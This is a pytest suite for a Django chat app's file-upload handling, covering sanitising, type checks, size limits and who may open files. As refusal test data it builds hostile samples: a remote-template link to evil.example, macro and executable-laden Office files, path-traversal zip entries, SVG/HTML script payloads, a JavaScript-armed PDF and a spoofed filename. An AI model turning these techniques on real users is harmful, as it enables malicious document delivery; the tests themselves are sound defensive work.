"""Files in the room: what is taken, what is kept of it, and who may open it."""

import io
from uuid import uuid4

import pikepdf
import pytest
from django.core.files.storage import FileSystemStorage, default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from bandian.web.rates import count
from chat.conftest import refusal
from chat.exceptions import NotFound
from chat.messaging import attachments, posting, recalling
from chat.messaging.posting import Draft
from chat.models import Attachment, Message
from chat.rooms import membership
from files import checks
from files.office import THUMB_SIDE
from files.tests.office_files import office, relation
from files.tests.samples import webp_that_grows
from signing.tests import making

JSON = {"HTTP_ACCEPT": "application/json"}
DRAWING = b"AC1032\0\0\0\0\0" + b"\1" * 200
DXF = b"  0\r\nSECTION\r\n  2\r\nHEADER\r\n  0\r\nENDSEC\r\n  0\r\nEOF\r\n"


def upload(content, name):
    return SimpleUploadedFile(name, content)


def photo(size=(1200, 900), **options):
    stream = io.BytesIO()
    Image.new("RGB", size, "#4a7").save(stream, "JPEG", **options)
    return stream.getvalue()


@pytest.fixture
def send(room, browser_of):
    """Return a function that sends a file as the script does."""

    def post(user, content, name, uuid=None):
        data = {"uuid": uuid or uuid4(), "file": upload(content, name)}
        return browser_of(user).post(reverse("chat:upload", args=[room.pk]), data, **JSON)

    return post


@pytest.fixture
def picture(customer, send):
    return send(customer, photo(), "现场.jpg").json()["message"]


def test_ch_12_photo_is_drawn_anew_without_place_and_with_a_thumbnail(room, customer, manager, send, browser_of):
    exif = Image.Exif()
    exif[0x9286] = "secret"
    message = send(customer, photo(exif=exif), "IMG 0001.jpg").json()["message"]

    assert message["kind"] == "image"
    row = Attachment.objects.get(message=message["id"])
    assert (row.width, row.height) == (1200, 900)
    assert (message["image"]["width"], message["image"]["height"]) == (240, 180)
    full = browser_of(manager).get(message["image"]["url"])
    small = browser_of(manager).get(message["image"]["thumb"])
    assert not Image.open(io.BytesIO(full.getvalue())).getexif()
    assert max(Image.open(io.BytesIO(small.getvalue())).size) == THUMB_SIDE
    assert full["Content-Security-Policy"] == "default-src 'none'; sandbox"


@pytest.mark.parametrize(
    ("content", "name", "kind"),
    [
        (office(), "说明.docx", "wordprocessingml"),
        (office("xl/workbook.xml"), "清单.xlsx", "spreadsheetml"),
        (office("ppt/presentation.xml"), "汇报.pptx", "presentationml"),
        (DRAWING, "总平面.dwg", "vnd.dwg"),
        (DXF, "总平面.DXF", "vnd.dxf"),
        (b"999\r\nmade by hand\r\n" + DXF, "总平面.dxf", "vnd.dxf"),
        (b"AutoCAD Binary DXF\r\n\x1a\0" + b"\1" * 20, "总平面.dxf", "vnd.dxf"),
        (making.paper(), "图纸.pdf", "pdf"),
    ],
    ids=["docx", "xlsx", "pptx", "dwg", "dxf", "dxf with a comment", "binary dxf", "pdf"],
)
def test_ch_12_papers_and_drawings_are_taken_by_content(customer, manager, send, browser_of, content, name, kind):
    answer = send(customer, content, name)

    assert answer.status_code == 201
    message = answer.json()["message"]
    assert message["file"]["name"] == name
    row = Attachment.objects.get(message=message["id"])
    assert kind in row.content_type
    down = browser_of(manager).get(message["file"]["download"])
    assert down["Content-Disposition"].startswith("attachment")
    assert down["X-Content-Type-Options"] == "nosniff"
    down.close()


MACROS = '<Override PartName="/a" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
REMOTE = relation("attachedTemplate", "https://evil.example/x.dotm", 'TargetMode="External"')


@pytest.mark.parametrize(
    ("content", "name", "words"),
    [
        (b"", "空.pdf", "为空"),
        (b"MZ\x90\0" + b"\0" * 200, "安装.exe", "只能发送"),
        (b"MZ\x90\0" + b"\0" * 200, "图纸.dwg", "只能发送"),
        (b"PK\x03\x04" + b"\0" * 100, "说明.docx", "损坏"),
        (office("other.txt"), "资料.zip", "只能发送"),
        (office(**{"word/vbaProject.bin": "x"}), "说明.docx", "宏"),
        (office(types=MACROS), "说明.docx", "宏"),
        (office(**{"word/embeddings/setup.exe": "x"}), "说明.docx", "可执行"),
        (office(**{"word/activeX/activeX1.xml": "x"}), "说明.docx", "宏"),
        (office(leads=REMOTE), "说明.docx", "外部模板"),
        (office(**{"word/media/big.xml": "0" * 30_000_000}), "说明.docx", "解压后过大"),
        (office(**{"../evil.xml": "x"}), "说明.docx", "损坏"),
        (office(), "说明.pdf", ".docx"),
        (office(), "说明.xlsx", ".docx"),
        (DRAWING, "总平面.pdf", ".dwg"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "旧版.doc", "只能发送"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "图.svg", "只能发送"),
        (b"<html><script>alert(1)</script>", "页.html", "只能发送"),
        (photo()[:600], "坏.jpg", "损坏"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_ch_12_everything_else_is_refused_with_the_remedy(customer, send, content, name, words):
    answer = send(customer, content, name)

    assert answer.status_code == 422
    assert words in answer.json()["error"]["message"]
    assert not Attachment.objects.exists()


def test_file_beyond_the_limit_is_refused(customer, send, settings):
    settings.CHAT_FILE_MAX_BYTES = 1024

    assert "上限" in send(customer, photo(), "大.jpg").json()["error"]["message"]


def test_up_29_a_picture_that_grows_beyond_the_limit_when_drawn_anew_is_refused(send, customer, settings):
    settings.CHAT_FILE_MAX_BYTES = 1 << 20

    answer = send(customer, webp_that_grows(), "图.webp")

    assert answer.status_code == 422
    assert "文件超过 1 MB 的上限" in answer.json()["error"]["message"]


def test_up_36_files_of_rooms_count_with_all_that_a_person_uploads(send, customer):
    count(checks.VOLUME, customer.pk, checks.VOLUME.most)

    answer = send(customer, photo(), "一.jpg")

    assert answer.status_code == 422
    assert "合计超过" in answer.json()["error"]["message"]


def test_room_that_is_full_of_files_takes_text_only(room, customer, send, settings, say):
    settings.ORDER_MAX_FILES = 1
    send(customer, photo(), "一.jpg")

    answer = send(customer, photo((50, 50)), "二.jpg")

    assert "已达上限" in answer.json()["error"]["message"]
    assert Attachment.objects.count() == 1
    assert len(default_storage.listdir("chat")[1]) == 2
    say(customer, "文字照发")


def test_cf_10_same_file_sent_again_under_its_uuid_is_one_message(room, customer, send):
    uuid = uuid4()

    first, again = (send(customer, photo(), "一.jpg", uuid) for _ in range(2))
    other = send(customer, photo((10, 10)), "一.jpg", uuid)

    assert (first.status_code, again.status_code, other.status_code) == (201, 200, 409)
    assert first.json() == again.json()
    assert len(default_storage.listdir("chat")[1]) == 2


def test_refused_file_leaves_nothing_behind(room, let_in, contact, customer, send):
    let_in(contact)

    assert send(contact, photo(), "一.jpg").json()["error"]["code"] == "unverified"
    assert not default_storage.exists("chat")


def test_cf_18_member_removed_while_the_file_is_checked_sends_nothing(room, customer, let_in, builder):
    member = let_in(builder)
    incoming = attachments.take(upload(photo(), "一.jpg"))
    membership.remove(member, by=customer)

    with pytest.raises(NotFound):
        posting.post(room, Draft(uuid4(), file=incoming), by=builder)

    assert not Attachment.objects.exists()
    assert not default_storage.exists("chat") or not default_storage.listdir("chat")[1]


def test_ch_07_cf_18_file_is_for_members_at_the_time_of_reading(room, customer, let_in, builder, send, browser_of):
    member = let_in(builder)
    message = send(customer, photo(), "一.jpg").json()["message"]
    urls = urls_of(message)

    assert statuses(browser_of(builder), urls) == [200] * 3
    membership.remove(member, by=customer)
    assert statuses(browser_of(builder), urls) == [404] * 3


def urls_of(picture):
    return [picture["image"]["url"], picture["image"]["thumb"], f"{picture['image']['url']}download/"]


def statuses(http, urls):
    answers = [http.get(url) for url in urls]
    for answer in answers:
        answer.close()
    return [answer.status_code for answer in answers]


def test_contact_does_not_open_what_was_shown_before_they_came(picture, let_in, builder, browser_of):
    let_in(builder)

    assert browser_of(builder).get(picture["image"]["url"]).status_code == 404


def test_cf_21_recalled_picture_is_gone_with_its_thumbnail(room, customer, manager, picture, browser_of):
    urls = urls_of(picture)
    assert statuses(browser_of(manager), urls) == [200] * 3

    recalling.recall(Message.objects.get(pk=picture["id"]), by=customer)

    assert statuses(browser_of(manager), urls) == [404] * 3


def test_hostile_name_is_text(customer, send):
    name = send(customer, photo(), "../../图\u202egpj.exe\x1b[31m<b>.jpg").json()["message"]["image"]["name"]

    assert name == "图gpj.exe[31m<b>.jpg"


def test_plain_form_sends_a_file_too(room, customer, browser_of):
    http = browser_of(customer)
    url = reverse("chat:upload", args=[room.pk])

    good = http.post(url, {"uuid": uuid4(), "file": upload(photo(), "一.jpg")})
    bad = http.post(url, {"uuid": uuid4(), "file": upload(b"MZ", "一.exe")})
    none = http.post(url, {"uuid": uuid4()})

    assert good.url == f"{room.get_absolute_url()}#end"
    assert "只能发送" in bad.content.decode()
    assert "请选择文件" in none.content.decode()


def test_active_pdf_is_cleaned_and_the_reader_told(customer, send):
    def arm(pdf):
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")

    message = send(customer, making.edited(making.paper(), arm), "图纸.pdf").json()["message"]

    assert "已去除" in message["file"]["notes"]


def test_full_disk_is_a_refusal(room, customer, monkeypatch):
    def full(*args, **kwargs):
        raise OSError(28, "No space left on device")

    incoming = attachments.take(upload(photo(), "一.jpg"))
    monkeypatch.setattr(FileSystemStorage, "save", full)

    assert refusal(posting.post, room, Draft(uuid4(), file=incoming), by=customer) == "invalid"
    assert not Message.objects.filter(author=customer).exists()
